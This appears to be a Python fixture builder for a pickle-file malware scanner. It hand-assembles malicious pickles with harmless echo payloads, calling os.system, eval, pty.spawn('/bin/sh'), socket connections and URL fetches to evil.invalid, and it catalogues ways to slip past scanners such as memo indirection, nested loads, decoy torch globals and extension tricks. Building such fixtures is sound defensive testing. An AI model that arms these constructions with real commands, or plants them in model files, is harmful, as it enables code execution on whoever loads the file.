"""Malicious pickles, one per dangerous module family and one per parser bypass class of
shared/reference/scanners.md §4 and §6. Hand-built opcodes; payloads are harmless echoes."""

from opcodes import Pickle, call_pickle, torch_state_dict

CMD = "echo rampart-fixture"


def _families():
    """(file, why, bytes, rule): one dangerous callable per family, across protocols."""
    list_arg = Pickle(2).global_("subprocess", "Popen").mark()
    list_arg.unicode("sh").unicode("-c").unicode(CMD).op(b"l").tuple1().reduce().stop()
    address = Pickle(2).global_("socket", "create_connection")
    address.unicode("evil.invalid").int(4444).tuple2().tuple1().reduce().stop()
    getattr_chain = Pickle(2).global_("builtins", "getattr")
    getattr_chain.global_("builtins", "__import__").unicode("os").tuple1().reduce()
    getattr_chain.unicode("system").tuple2().reduce().unicode(CMD).tuple1().reduce().stop()
    resolve = Pickle(4).stack_global("pkgutil", "resolve_name").unicode("os:system").tuple1()
    resolve.reduce().unicode(CMD).tuple1().reduce().stop()
    caller = Pickle(4).stack_global("operator", "methodcaller").unicode("system").unicode(CMD)
    caller.tuple2().reduce().stack_global("pydoc", "locate").unicode("os").tuple1().reduce()
    caller.tuple1().reduce().stop()
    partial = Pickle(2).global_("functools", "partial").global_("os", "system").unicode(CMD)
    partial.tuple2().reduce().empty_tuple().reduce().stop()
    return [
        ("os_system.pkl", "os.system, protocol 2 GLOBAL", call_pickle("os", "system", CMD), "RS101"),
        ("posix_system_p0.pkl", "posix.system, protocol 0 (no PROTO)",
         call_pickle("posix", "system", CMD, protocol=0), "RS101"),
        ("nt_system_p4.pkl", "nt.system via STACK_GLOBAL",
         call_pickle("nt", "system", CMD, protocol=4), "RS101"),
        ("subprocess_popen.pkl", "subprocess.Popen(['sh', '-c', ...])", list_arg.bytes(), "RS101"),
        ("builtins_eval_p3.pkl", "builtins.eval, protocol 3",
         call_pickle("builtins", "eval", "print(1)", protocol=3), "RS101"),
        ("builtins_exec_p5.pkl", "builtins.exec, protocol 5",
         call_pickle("builtins", "exec", "print(1)", protocol=5), "RS101"),
        ("builtins_import.pkl", "builtins.__import__('os') (picklescan: only Suspicious)",
         call_pickle("builtins", "__import__", "os"), "RS101"),
        ("builtins_getattr_chain.pkl", "getattr(__import__('os'), 'system')(cmd)",
         getattr_chain.bytes(), "RS101"),
        ("runpy_run_code.pkl", "runpy._run_code", call_pickle("runpy", "_run_code", "print(1)"), "RS101"),
        ("pty_spawn.pkl", "pty.spawn", call_pickle("pty", "spawn", "/bin/sh"), "RS101"),
        ("socket_connect.pkl", "socket.create_connection (network)", address.bytes(), "RS101"),
        ("webbrowser_open.pkl", "webbrowser.open (network)",
         call_pickle("webbrowser", "open", "http://evil.invalid"), "RS101"),
        ("shutil_rmtree.pkl", "shutil.rmtree (file system)",
         call_pickle("shutil", "rmtree", "/nonexistent/rampart-fixture"), "RS101"),
        ("importlib_import_module.pkl", "importlib.import_module",
         call_pickle("importlib", "import_module", "os"), "RS101"),
        ("ctypes_cdll.pkl", "ctypes.CDLL (native code)", call_pickle("ctypes", "CDLL", "libc.so.6"), "RS101"),
        ("pip_main.pkl", "pip.main (CVE-2025-1716)", call_pickle("pip", "main", "install"), "RS101"),
        ("asyncio_subprocess.pkl", "asyncio.subprocess.create_subprocess_shell (submodule bypass, CVE-2025-10157)",
         call_pickle("asyncio.subprocess", "create_subprocess_shell", CMD), "RS101"),
        ("timeit_timeit.pkl", "timeit.timeit runs code", call_pickle("timeit", "timeit", "print(1)"), "RS101"),
        ("cprofile_run.pkl", "cProfile.run runs code", call_pickle("cProfile", "run", "print(1)"), "RS101"),
        ("marshal_loads.pkl", "marshal.loads: a nested deserialiser of code objects",
         call_pickle("marshal", "loads", b"\xe3\x00", protocol=3), "RS105"),
        ("urllib_urlopen.pkl", "urllib.request.urlopen (network)",
         call_pickle("urllib.request", "urlopen", "http://evil.invalid"), "RS101"),
        ("requests_get.pkl", "requests.get (third-party network)",
         call_pickle("requests", "get", "http://evil.invalid"), "RS101"),
        ("io_fileio.pkl", "_io.FileIO opens a file for writing",
         call_pickle("_io", "FileIO", "/tmp/rampart-fixture", "w"), "RS101"),
        ("logging_filehandler.pkl", "logging.FileHandler writes a file",
         call_pickle("logging", "FileHandler", "/tmp/rampart-fixture"), "RS101"),
        ("uuid_command.pkl", "uuid._get_command_stdout runs a program (GHSA-g38g-8gr9-h9xp)",
         call_pickle("uuid", "_get_command_stdout", "id"), "RS101"),
        ("torch_collect_env_run.pkl", "torch.utils.collect_env.run runs a command",
         call_pickle("torch.utils.collect_env", "run", CMD), "RS101"),
        ("sys_exit.pkl", "sys.exit terminates the loading process", call_pickle("sys", "exit", 0), "RS101"),
        ("pkgutil_resolve_name.pkl", "pkgutil.resolve_name('os:system') then called", resolve.bytes(), None),
        ("operator_methodcaller.pkl", "methodcaller('system', cmd)(pydoc.locate('os'))", caller.bytes(), None),
        ("functools_partial.pkl", "partial(os.system, cmd)(): os.system only passed as an argument",
         partial.bytes(), None),
    ]


def _names():
    """Name-resolution tricks: dotted names, fix_imports, memo, STACK_GLOBAL from STRING."""
    dotted = call_pickle("random", "_os.system", CMD, protocol=4)
    builtins_dict = Pickle(4).stack_global("builtins", "__dict__.get").unicode("eval").tuple1()
    builtins_dict.reduce().unicode("print(1)").tuple1().reduce().stop()
    runsource = Pickle(4).stack_global("code", "InteractiveInterpreter.runsource").empty_dict()
    runsource.unicode("print(1)").tuple2().reduce().stop()
    bdb = Pickle(4).stack_global("bdb", "Bdb.run").empty_dict().unicode("print(1)").tuple2()
    bdb.reduce().stop()
    fix = Pickle(2).global_("__builtin__", "eval").unicode("print(1)").tuple1().reduce().stop()
    memo = Pickle(2).global_("os", "system").binput(1).pop()
    memo.empty_dict().unicode("weights").empty_list().setitem().pop()
    memo.binget(1).unicode(CMD).tuple1().reduce().stop()
    long_memo = Pickle(4).stack_global("os", "system").long_binput(70000).pop()
    long_memo.unicode(CMD).long_binput(70001).pop().long_binget(70000).long_binget(70001)
    long_memo.tuple1().reduce().stop()
    text_memo = Pickle().op(b"(dp0\n").string0("a").put(1).global_("os", "system").put(2)
    text_memo.op(b"0").get(2).op(b"(").string0(CMD).tuple().reduce().setitem().stop()
    from_string = Pickle(4).string0("os").put(0).string0("system").put(1).op(b"\x93")
    from_string.string0(CMD).tuple1().reduce().stop()
    return [
        ("dotted_random_os.pkl", "random._os.system: dotted name through a harmless module",
         dotted, None),
        ("dotted_builtins_dict.pkl", "builtins.__dict__.get('eval')(...): dotted name, call of a call",
         builtins_dict.bytes(), None),
        ("dotted_code_runsource.pkl", "code.InteractiveInterpreter.runsource (exact-match miss)",
         runsource.bytes(), None),
        ("dotted_bdb_run.pkl", "bdb.Bdb.run", bdb.bytes(), None),
        ("fix_imports_builtin.pkl", "__builtin__.eval mapped to builtins by fix_imports (protocol 2)",
         fix.bytes(), "RS101"),
        ("memo_indirection.pkl", "os.system memoized, popped, fetched back with BINGET", memo.bytes(), "RS101"),
        ("memo_long.pkl", "callable and argument through LONG_BINPUT/LONG_BINGET at index 70000",
         long_memo.bytes(), "RS101"),
        ("memo_protocol0.pkl", "protocol-0 PUT/GET text memo inside a dict", text_memo.bytes(), "RS101"),
        ("stack_global_from_string.pkl", "STACK_GLOBAL fed by protocol-0 STRING opcodes and PUT",
         from_string.bytes(), "RS101"),
    ]


def _structure():
    """Call opcodes and stream-level tricks."""
    decoys = Pickle(2)
    for module, name in (("torch._utils", "_rebuild_tensor_v2"), ("torch", "FloatStorage"),
                         ("collections", "OrderedDict"), ("numpy", "ndarray"),
                         ("numpy.core.multiarray", "_reconstruct"), ("torch", "LongStorage")):
        decoys.global_(module, name).pop()
    decoys.global_("os", "system").unicode(CMD).tuple1().reduce().stop()
    benign = Pickle(2).empty_dict().unicode("ok").true().setitem().stop().bytes()
    garbage = Pickle(2).global_("os", "system").unicode(CMD).tuple1().reduce()
    garbage.op(b"\xff\xfe\xfd not opcodes")
    truncated = Pickle(2).global_("os", "system").unicode(CMD).tuple1().reduce()
    truncated.op(b"X\xff\xff\xff\x7fshort")
    ext = Pickle(2).ext1(1).unicode(CMD).tuple1().reduce().stop()
    obj = Pickle(2).mark().global_("os", "system").unicode(CMD).obj().pop()
    obj.empty_dict().stop()
    inst = Pickle().mark().string0(CMD).inst("os", "system").stop()
    newobj_ex = Pickle(4).stack_global("subprocess", "Popen").mark().unicode(CMD).op(b"l")
    newobj_ex.tuple1().empty_dict().newobj_ex().stop()
    newobj = Pickle(2).global_("subprocess", "Popen").unicode(CMD).tuple1().newobj().stop()
    build = Pickle(2).global_("os", "system").unicode(CMD).tuple1().reduce().empty_dict().build()
    build.stop()
    inner = call_pickle("os", "system", CMD)
    nested = Pickle(3).global_("pickle", "loads").binbytes(inner).tuple1().reduce().stop()
    middle = Pickle(3).global_("_pickle", "loads").binbytes(inner).tuple1().reduce().stop().bytes()
    double = Pickle(4).stack_global("pickle", "loads").binbytes(middle).tuple1().reduce().stop()
    payload = Pickle().global_("os", "system").unicode(CMD).tuple1().reduce().bytes()
    return [
        ("decoys_popped.pkl", "six allowlisted torch/numpy globals imported and popped, then os.system",
         decoys.bytes(), "RS101"),
        ("stacked_second.pkl", "two pickles: a benign dict, then os.system after the first STOP",
         benign + call_pickle("os", "system", CMD), "RS101"),
        ("payload_then_garbage.pkl", "os.system REDUCE, then invalid opcodes (no STOP)",
         garbage.bytes(), "RS101"),
        ("payload_then_truncated.pkl", "os.system REDUCE, then a BINUNICODE longer than the file",
         truncated.bytes(), "RS101"),
        ("ext1.pkl", "callable from the copyreg extension registry (EXT1)", ext.bytes(), "RS106"),
        ("obj_pop.pkl", "os.system called by OBJ and its result popped", obj.bytes(), "RS101"),
        ("inst.pkl", "os.system called by INST (protocol 0)", inst.bytes(), "RS101"),
        ("newobj_ex.pkl", "subprocess.Popen instantiated with NEWOBJ_EX", newobj_ex.bytes(), None),
        ("newobj.pkl", "subprocess.Popen instantiated with NEWOBJ", newobj.bytes(), None),
        ("build_after_call.pkl", "os.system result then BUILD", build.bytes(), "RS101"),
        ("nested_pickle_loads.pkl", "pickle.loads of an inner pickle that calls os.system",
         nested.bytes(), "RS101", ["RS105"]),
        ("nested_double.pkl", "pickle.loads -> _pickle.loads -> os.system", double.bytes(), "RS101",
         ["RS105"]),
        ("torch_style_payload.pkl", "a torch state dict whose extra entry is os.system(...)",
         torch_state_dict(payload), "RS101"),
    ]


def build(out):
    """Writes every malicious pickle through `out`."""
    for entry in _families() + _names() + _structure():
        name, why, data, rule = entry[:4]
        also = entry[4] if len(entry) > 4 else None
        out(f"pickle/{name}", why, data, rule=rule, also=also)
    out("pickle/payload_no_extension", "a pickle with no file extension",
        call_pickle("os", "system", CMD), rule="RS101")
    out("pickle/pytorch_model.bin", "a raw pickle named .bin (CVE-2025-10155 extension bypass)",
        call_pickle("os", "system", CMD, protocol=4), rule="RS101")
